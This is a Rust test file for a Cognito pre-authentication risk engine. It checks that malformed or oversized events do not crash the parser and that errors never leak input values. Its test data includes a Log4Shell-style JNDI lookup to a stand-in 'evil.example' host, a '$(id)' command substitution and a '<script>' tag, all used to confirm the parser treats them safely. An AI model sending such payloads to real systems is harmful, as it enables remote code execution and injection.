//! Malformed events and bodies: none ends the process, and no error quotes a value.

use std::{sync::Arc, time::Duration};

use jiff::Timestamp;
use proptest::prelude::*;
use riskgate_config::Config;
use riskgate_engine::{
    client_ip::ClientIp,
    context::Trust,
    personal::RawEvent,
    sign_in::{Existence, SignIn},
    time::ClockReading,
    user_agent::UserAgentAnomaly,
};
use riskgate_event::{
    cognito::{self, BadEvent, Event},
    http,
};
use serde_json::{Value, json};
use tokio::time::Instant;

fn now() -> ClockReading {
    ClockReading { wall: Timestamp::from_second(1_795_300_000).expect("a time"), mono: Instant::now().into_std() }
}

fn parse(text: &str) -> Option<Result<Event, BadEvent>> {
    let raw = serde_json::value::RawValue::from_string(text.to_owned()).ok()?;
    Some(cognito::parse(RawEvent::new(raw), now(), &Config::defaults().trust))
}

#[track_caller]
fn sign_in(text: &str) -> SignIn {
    match parse(text) {
        Some(Ok(Event::PreAuthentication(sign_in))) => Arc::unwrap_or_clone(sign_in),
        other => panic!("{text} was read as {other:?}"),
    }
}

/// An event whose request is this.
fn with_request(request: Value) -> String {
    json!({ "version": "1", "triggerSource": "PreAuthentication_Authentication", "userPoolId": "p", "userName": "ada", "callerContext": { "clientId": "c" }, "request": request, "response": {} })
        .to_string()
}

fn with_data(data: Value) -> String {
    with_request(json!({ "userAttributes": { "sub": "s" }, "validationData": data }))
}

#[test]
fn what_is_missing_or_null_is_no_context() {
    for text in [
        "{}".to_owned(),
        r#"{"request":null,"callerContext":null,"userName":null,"userPoolId":null,"triggerSource":null,"version":null}"#.to_owned(),
        with_request(Value::Null),
        with_request(json!({})),
        with_request(json!({ "userAttributes": null, "validationData": null, "clientMetadata": null, "userNotFound": null })),
        with_request(json!({ "validationData": {} })),
        with_data(json!({ "riskgate": null, "ip": null, "userAgent": null })),
        with_data(json!({ "somethingElse": "x" })),
    ] {
        let read = sign_in(&text);
        assert_eq!((read.context.trust, read.context.ip), (Trust::None, ClientIp::Missing), "{text}");
    }
}

#[test]
fn a_value_of_the_wrong_type_counts_as_missing() {
    for odd in [json!(7), json!(true), json!([]), json!({}), json!(["8.8.8.8"]), json!({ "ip": "8.8.8.8" })] {
        let read = sign_in(&with_data(json!({ "ip": odd, "userAgent": odd, "deviceId": odd, "timezone": odd, "acceptLanguage": odd })));
        assert_eq!(read.context.trust, Trust::None, "{odd}");
        let read = sign_in(
            &json!({ "userName": odd, "userPoolId": odd, "callerContext": { "clientId": odd }, "request": { "userAttributes": { "sub": odd, "email": odd } } })
                .to_string(),
        );
        assert_eq!((read.user.key(), read.pool.as_str(), read.client.as_str()), ("", "", ""), "{odd}");
        assert!(read.user.sub.is_none() && read.user.aliases.is_empty(), "{odd}");
    }
}

#[test]
fn fields_that_identify_the_sign_in_must_be_objects() {
    for part in ["request", "callerContext"] {
        for odd in ["7", "\"text\"", "[]", "true"] {
            assert!(matches!(parse(&format!(r#"{{"{part}":{odd}}}"#)), Some(Err(BadEvent::NotAnObject(_)))), "{part} {odd}");
        }
    }
    for part in ["userAttributes", "validationData"] {
        assert!(matches!(parse(&format!(r#"{{"request":{{"{part}":"text"}}}}"#)), Some(Err(BadEvent::NotAnObject(_)))), "{part}");
    }
    assert!(matches!(parse(r#"{"userName":"a","userName":"b"}"#), Some(Err(BadEvent::Json(_)))), "two names");
}

#[test]
fn what_is_no_json_is_never_an_event() {
    for text in ["", " ", "{", "{]", "nul", "\u{feff}{}", "{}{}", "{\"a\":1,}", "'{}'", "NaN", "{\"a\":\u{1}}"] {
        assert!(parse(text).is_none(), "{text:?}");
    }
}

#[test]
fn other_versions_and_unknown_fields_are_accepted() {
    let deep = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
    for field in [
        r#""version":"2""#.to_owned(),
        r#""version":7"#.to_owned(),
        r#""new":{"x":[1,{"y":null}]}"#.to_owned(),
        format!(r#""deep":{deep}"#),
        r#""n":1e400"#.to_owned(),
    ] {
        let text = format!(r#"{{{field},"userName":"ada","request":{{"userAttributes":{{"sub":"s"}},"new":{{}}}},"response":{{}}}}"#);
        assert_eq!(sign_in(&text).raw.text(), text, "returned byte for byte");
    }
}

#[test]
fn names_of_any_kind_are_distinct() {
    let names = [
        "a\u{0}b",
        "a\r\nb",
        "\u{202e}ada",
        "ada",
        "ADA",
        " ada",
        "👩‍🚀",
        "a|b",
        "a\u{1f}b",
        &"x".repeat(5_000),
        &"x".repeat(5_001),
        "<script>",
        "$(id)",
        "a\\nb",
    ];
    let keys: Vec<String> = names.iter().map(|name| sign_in(&json!({ "userName": name }).to_string()).user.key().to_owned()).collect();
    assert_eq!(keys, names);
    // Half a surrogate pair is no text in any language: it is read as U+FFFD.
    assert_eq!(sign_in(r#"{"userName":"\ud800"}"#).user.key(), "\u{fffd}");
}

#[test]
fn unknown_users_cause_the_same_reads() {
    for spelling in [json!(true), json!("true")] {
        let read = sign_in(&with_request(json!({ "userNotFound": spelling, "userAttributes": {}, "validationData": { "ip": "8.8.8.8" } })));
        assert_eq!(read.user.key(), "ada");
        assert_eq!(read.context.ip, ClientIp::parse("8.8.8.8"));
        assert_eq!(read.user.existence, Existence::NotFound, "{spelling}");
    }
    for spelling in [json!(false), json!("false"), json!(null), json!(1), json!({})] {
        assert_eq!(sign_in(&with_request(json!({ "userNotFound": spelling }))).user.existence, Existence::Known, "{spelling}");
    }
}

#[test]
fn addresses_are_canonical_or_none() {
    for text in
        ["203.0.113.7, 10.0.0.1", "203.0.113.007", "0x7f000001", "2130706433", "127.1", "1.2.3", "8.8.8.8:https", "localhost", "8.8.8.8%eth0", "8.8.8.8\u{0}"]
    {
        assert_eq!(sign_in(&with_data(json!({ "ip": text }))).context.ip, ClientIp::Invalid, "{text:?}");
    }
    for text in ["", "unknown", "_hidden"] {
        assert_eq!(sign_in(&with_data(json!({ "ip": text }))).context.ip, ClientIp::Missing, "{text:?}");
    }
    for text in ["10.0.0.1", "100.64.0.1", "127.0.0.1", "169.254.169.254", "::1", "fc00::1", "0.0.0.0", "255.255.255.255", "192.0.2.1", "::ffff:10.0.0.1"] {
        assert!(matches!(sign_in(&with_data(json!({ "ip": text }))).context.ip, ClientIp::NonPublic(_)), "{text:?}");
    }
}

#[test]
fn user_agents_are_truncated_and_distinguished() {
    for (text, anomaly) in [
        ("x".repeat(65_536), UserAgentAnomaly::None),
        ("\u{0}\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}".to_owned(), UserAgentAnomaly::Impossible),
        ("${jndi:ldap://evil.example/a}".to_owned(), UserAgentAnomaly::Impossible),
        ("\u{202e}".repeat(500), UserAgentAnomaly::None),
    ] {
        let agent = sign_in(&with_data(json!({ "userAgent": text }))).context.user_agent.expect("an agent");
        assert!(agent.text.expose().len() <= 512);
        assert_eq!(agent.anomaly, anomaly, "{:?}", text.chars().take(20).collect::<String>());
    }
    assert!(sign_in(&with_data(json!({ "userAgent": "" }))).context.user_agent.is_none());
}

#[test]
fn long_claims_are_cut_at_a_character() {
    // Of two, three and four bytes, from each offset: the bound falls into one of them.
    for letter in ["ø", "\u{202e}", "👩"] {
        for offset in 0..letter.len() {
            let text = format!("{}{}", "x".repeat(offset), letter.repeat(300));
            let context = sign_in(&with_data(json!({ "deviceId": text, "acceptLanguage": text, "timezone": text }))).context;
            for claim in [context.device_id, context.accept_language, context.timezone] {
                let claim = claim.expect("a claim");
                assert!(text.starts_with(claim.expose().as_str()) && (253..=256).contains(&claim.expose().len()), "{letter} {offset}");
            }
        }
    }
}

#[test]
fn other_triggers_are_returned_unchanged() {
    for source in ["PreSignUp_SignUp", "CustomMessage_SignUp", "", "preauthentication_authentication", "PreAuthentication", "🤖"] {
        assert!(matches!(parse(&json!({ "triggerSource": source, "request": 7 }).to_string()), Some(Ok(Event::NotHandled(_)))), "{source}");
    }
}

#[test]
fn large_events_are_read_in_time() {
    let many: Value = (0..20_000).map(|number| (format!("attribute{number}"), json!("x".repeat(100)))).collect::<serde_json::Map<_, _>>().into();
    for text in [
        with_request(json!({ "userAttributes": many })),
        with_data(many.clone()),
        json!({ "userName": "x".repeat(3_000_000) }).to_string(),
        json!({ "userName": "\\".repeat(1_000_000) }).to_string(),
        format!(r#"{{"request":{{"x":{}1{}}}}}"#, "[".repeat(500_000), "]".repeat(500_000)),
    ] {
        let started = Instant::now();
        sign_in(&text);
        // Reading in quadratic time takes minutes.
        assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
    }
}

const MARK: &str = "zq-marker-81";

/// Any JSON, with the mark in strings and names.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        "\\PC{0,12}".prop_map(Value::from),
        Just(Value::from(MARK)),
        Just(Value::from(format!("{MARK}, expected {MARK} at line 1 column 1"))),
    ];
    leaf.prop_recursive(4, 64, 8, |inner| {
        let name = prop_oneof![
            prop::sample::select(vec![
                "request",
                "userAttributes",
                "validationData",
                "clientMetadata",
                "callerContext",
                "clientId",
                "userName",
                "userPoolId",
                "triggerSource",
                "version",
                "riskgate",
                "ip",
                "userAgent",
                "deviceId",
                "timezone",
                "acceptLanguage",
                "user",
                "client",
                "pool",
                "time",
                "asn",
                "country",
                "tenant",
                "sub",
                MARK,
            ])
            .prop_map(str::to_owned),
            "\\PC{0,8}",
        ];
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::vec((name, inner), 0..10).prop_map(|entries| Value::Object(entries.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn no_fault_quotes_a_value(value in any_json(), cut in 0.0..1.0_f64) {
        let text = value.to_string();
        let mut end = (text.len() as f64 * cut) as usize;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        for text in [text.as_str(), &text[..end]] {
            if let Some(Err(bad)) = parse(text) {
                prop_assert!(!format!("{bad} {bad:?}").contains(MARK), "{bad}");
            }
            match http::parse(text.as_bytes(), ClientIp::Missing, now()) {
                Ok(read) => {
                    // The pool and the app client are not secret.
                    let read = SignIn { pool: "".into(), client: "".into(), ..read };
                    prop_assert!(!format!("{read:?}").contains(MARK), "{read:?}");
                }
                Err(bad) => prop_assert!(!format!("{bad} {bad:?}").contains(MARK), "{bad}"),
            }
        }
    }

    #[test]
    fn any_bytes_are_read_without_a_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let _ = http::parse(&bytes, ClientIp::Missing, now());
        let _ = parse(&String::from_utf8_lossy(&bytes));
    }
}
